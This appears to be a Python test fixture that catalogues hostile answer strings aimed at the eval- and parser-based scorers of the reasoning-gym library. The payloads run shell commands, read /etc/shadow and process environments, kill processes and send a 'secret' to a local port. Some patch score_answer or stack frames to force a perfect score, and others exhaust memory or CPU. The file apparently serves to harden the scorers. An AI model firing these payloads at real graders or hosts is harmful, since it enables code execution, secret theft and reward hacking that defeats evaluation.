"""Answers that attack the scorers of reasoning-gym, and the tasks whose scorers evaluate an answer.

What the library (0.1.25) does with an answer, found by searching its sources for what evaluates:

    eval                    binary_matrix, n_queens, spiral_matrix, string_insertion
    sympy's parse_expr      countdown, intermediate_integration, polynomial_multiplication, puzzle24,
                            simple_integration
    json.loads              boxnet, codeio, game_of_life, graph_color, group_anagrams, jugs, knight_swap,
                            number_sorting, palindrome_partitioning
    Fraction                coin_flip
    a parser of its own     propositional_logic
    numpy.loadtxt           manipulate_matrix, pool_matrix, rotate_matrix
"""

EVAL = ("binary_matrix", "n_queens", "spiral_matrix", "string_insertion")
PARSE_EXPR = (
    "countdown",
    "intermediate_integration",
    "polynomial_multiplication",
    "puzzle24",
    "simple_integration",
)
JSON = (
    "boxnet",
    "codeio",
    "game_of_life",
    "graph_color",
    "group_anagrams",
    "jugs",
    "knight_swap",
    "number_sorting",
    "palindrome_partitioning",
)
OTHER_PARSERS = ("coin_flip", "propositional_logic", "manipulate_matrix", "pool_matrix", "rotate_matrix")
TASKS = EVAL + PARSE_EXPR + JSON + OTHER_PARSERS
THE_SIX = (*EVAL, "puzzle24", "countdown")

OS = "__import__('os')"
SUBCLASSES = "().__class__.__base__.__subclasses__()"
PATCH = "import reasoning_gym as r; r.dataset.ProceduralDataset.score_answer = lambda *_: 1.0"


def without_quotes(text: str) -> str:
    """Returns an expression whose value is the text, of numbers, names and operators alone."""
    return "(" + "+".join(f"(chr)({ord(character)})" for character in text) + ")"


CALLS = {  # of Python's own functions, in what looks like arithmetic
    "exec": f"(exec){without_quotes(PATCH)}",
    "eval": f"(eval){without_quotes('1 + 1')}",
    "open": f"sqrt((open){without_quotes('/etc/passwd')})",
    "names in a loop": "sqrt(*(exp(49) for exp in (chr,)))",
    "number": "2(3)",
    "lines": "eval\n(1)",
    "choice": "1 if x else 2",
}
CODE = {  # `marker` is a file, `port` one of this machine, `actor` the process that holds the secrets
    "system": f"{OS}.system('touch {{marker}}')",
    "touch": f"{OS}.mknod('{{marker}}')",
    "open": "open('{marker}', 'w').write('x')",
    "builtins": "__builtins__['open']('{marker}', 'w')",
    "breakpoint": "breakpoint()",
    "popen": f"{OS}.popen('sleep 987654 & touch {{marker}}').read()",
    "subprocess": "__import__('subprocess').Popen(['sleep', '987654'])",
    "spawn": f"{OS}.spawnlp({OS}.P_NOWAIT, 'sleep', 'sleep', '987654')",
    "fork": f"[{OS}.fork() for _ in range(9)]",
    "fork and stay": f"{OS}.fork() or __import__('time').sleep(987654)",
    "setsid": f"({OS}.fork() or ({OS}.setsid(), __import__('time').sleep(987654)))",
    "exec": f"{OS}.execlp('touch', 'touch', '{{marker}}')",
    "environ": f"open('{{marker}}', 'w').write(str({OS}.environ))",
    "environ of the actor": "open('{marker}', 'wb').write(open('/proc/{actor}/environ', 'rb').read())",
    "memory of the actor": "open('/proc/{actor}/mem', 'rb').read(9)",
    "environ of the parent": f"open('/proc/%d/environ' % {OS}.getppid(), 'rb').read()",
    "kill the actor": f"{OS}.kill({{actor}}, 9)",
    "kill the parent": f"{OS}.kill({OS}.getppid(), 9)",
    "kill all": f"{OS}.kill(-1, 9)",
    "stop the parent": f"{OS}.kill({OS}.getppid(), 19)",
    "exit": "exit()",
    "end the process": f"{OS}._exit(0)",
    "segfault": "__import__('ctypes').string_at(0)",
    "socket": "__import__('socket').create_connection(('127.0.0.1', {port})).send(b'secret')",
    "http": "__import__('urllib.request').request.urlopen('http://127.0.0.1:{port}/secret')",
    "print": "print('secret ' * 1000000)",
    "unlink": f"{OS}.unlink('{{victim}}')",
    "rename": f"{OS}.rename('{{victim}}', '{{marker}}')",
    "shadow": "open('/etc/shadow').read()",
    "subclasses": f"[c for c in {SUBCLASSES} if c.__name__ == 'Popen'][0](['touch', '{{marker}}'])",
    "frames": "__import__('sys')._getframe(3).f_locals.update(score=1.0)",
    "own the scorer": "__import__('reasoning_gym').games.n_queens.NQueensDataset.score_answer.__code__",
    "an object that is right": "type('R', (str,), {{'__float__': lambda self: 24.0}})()",
    "patch": "exec('import reasoning_gym as r; r.dataset.ProceduralDataset.score_answer = lambda *a: 1.0')",
    "exec by its name in parentheses": CALLS["exec"],
    "walrus": f"(o := {OS}).system('touch {{marker}}')",
    "lambda": f"(lambda: {OS}.system('touch {{marker}}'))()",
    "format": f"'{{{{0.__class__}}}}'.format({OS}.system('touch {{marker}}'))",
    "sympify": "sympify(\"__import__('os').system('touch {marker}')\")",
    "preview": "preview(x, viewer='file', filename='{marker}')",
    "lambdify": "lambdify(x, x, modules=[{{'x': open('{marker}', 'w')}}])",
}
ENDLESS = {
    "power": "9**9**9**9",
    "factorial": "factorial(10**9)",
    "sum": "sum(1 for _ in iter(int, 1))",
    "while": "[0 for x in [[]] for _ in iter(lambda: x.append(1), 0)]",
    "fraction": "1e999999999",
    "sleep": "__import__('time').sleep(987654)",
}
LARGE = {
    "list": "[0] * 10**11",
    "text": "'a' * 10**12",
    "nested lists": "[" * 5000 + "]" * 5000,
    "nested JSON": '{"a":' * 5000 + "1" + "}" * 5000,
    "nested parentheses": "(" * 5000 + "x" + ")" * 5000,
    "digits": "9" * 19_000,
    "signs": "-" * 19_000 + "1",
    "not": "\u00ac" * 15_000 + "P",
    "megabytes": "1 + " * 1_000_000 + "1",
    "surrogate": "\ud800" * 10,
    "NUL": "\x00" * 100,
}
